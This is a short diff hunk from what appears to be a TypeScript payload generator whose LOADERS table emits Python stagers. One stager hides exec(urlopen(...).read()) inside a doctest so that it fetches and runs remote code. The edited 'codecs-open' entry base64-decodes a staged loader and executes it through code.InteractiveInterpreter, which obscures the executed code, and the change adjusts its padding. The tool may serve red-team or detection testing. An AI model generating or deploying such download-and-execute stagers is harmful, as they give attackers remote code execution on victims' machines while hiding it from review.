@@ -62,7 +62,7 @@ const LOADERS: Readonly<Record<string, Code>> = {
   'doctest-string': (c) =>
     `import doctest\n\n\ndef sample():\n    """\n    >>> from urllib.request import urlopen\n    >>> exec(urlopen("${c.url('/d')}").read())\n    """\n\n\ndoctest.run_docstring_examples(sample, {})\n`,
   'codecs-open': (c) =>
-    `import code\nimport codecs\n\ncode.InteractiveInterpreter().runcode(compile(codecs.decode("${base64(stagedLoader(c)).replaceAll('=', '')}==".encode(), "base64"), "k", "exec"))\n`,
+    `import code\nimport codecs\n\ncode.InteractiveInterpreter().runcode(compile(codecs.decode("${base64(stagedLoader(c))}".encode(), "base64"), "k", "exec"))\n`,
 };
 
 const draft =
